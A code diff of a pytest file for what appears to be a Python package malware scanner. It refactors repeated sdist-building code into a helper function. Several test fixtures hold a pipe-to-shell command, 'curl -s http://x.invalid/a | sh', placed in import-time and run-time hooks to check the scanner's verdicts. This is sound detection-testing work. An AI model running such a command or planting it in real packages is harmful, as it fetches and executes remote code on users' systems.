@@ -13,7 +13,7 @@ import pytest
 from test_engine import make_sdist, make_wheel
 
 from pipvet.analysis.engine import analyze_bytes
-from pipvet.models import Stage, Verdict
+from pipvet.models import Result, Stage, Verdict
 
 COMMAND = "'curl -s http://x.invalid/a | sh'"
 
@@ -304,16 +304,21 @@ AT_IMPORT = {
 }
 
 
-@pytest.mark.parametrize("shape", sorted(AT_IMPORT))
-def test_an_import_time_payload_is_caught(shape: str) -> None:
+def _imported(source: str) -> Result:
+    """The verdict on an sdist whose package's ``__init__.py`` is ``source``."""
     data = make_sdist(
         {
-            "demo/__init__.py": AT_IMPORT[shape],
+            "demo/__init__.py": source,
             "setup.py": "from setuptools import setup\nsetup(name='demo', packages=['demo'])\n",
             "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
         }
     )
-    result = analyze_bytes(data, "demo-1.0.tar.gz").result
+    return analyze_bytes(data, "demo-1.0.tar.gz").result
+
+
+@pytest.mark.parametrize("shape", sorted(AT_IMPORT))
+def test_an_import_time_payload_is_caught(shape: str) -> None:
+    result = _imported(AT_IMPORT[shape])
     assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
     assert not [f.evidence for f in result.findings if f.rule == "PV-ENGINE-RULE-FAILED"]
 
@@ -380,14 +385,7 @@ def test_protocol_methods_of_a_class_no_import_makes_stay_run_time() -> None:
         "import os\nclass K:\n    def __del__(self):\n        os.system('curl -s http://x.invalid/a | sh')\n"
         "    @property\n    def p(self):\n        return os.system('curl -s http://x.invalid/a | sh')\n"
     )
-    data = make_sdist(
-        {
-            "demo/__init__.py": source,
-            "setup.py": "from setuptools import setup\nsetup(name='demo', packages=['demo'])\n",
-            "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
-        }
-    )
-    result = analyze_bytes(data, "demo-1.0.tar.gz").result
+    result = _imported(source)
     assert result.verdict is not Verdict.MALICIOUS
     assert {f.stage for f in result.findings if f.line in {4, 7}} == {Stage.RUNTIME}
 
@@ -452,14 +450,7 @@ def test_literal_code_run_inside_a_statement_is_read_before_it_and_harmless_code
         "def f(x=exec('y = 1')):\n"
         "    return x\n"
     )
-    data = make_sdist(
-        {
-            "demo/__init__.py": source,
-            "setup.py": "from setuptools import setup\nsetup(name='demo', packages=['demo'])\n",
-            "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
-        }
-    )
-    result = analyze_bytes(data, "demo-1.0.tar.gz").result
+    result = _imported(source)
     assert result.verdict is Verdict.CLEAN, [(f.rule, f.message) for f in result.findings]
 
 
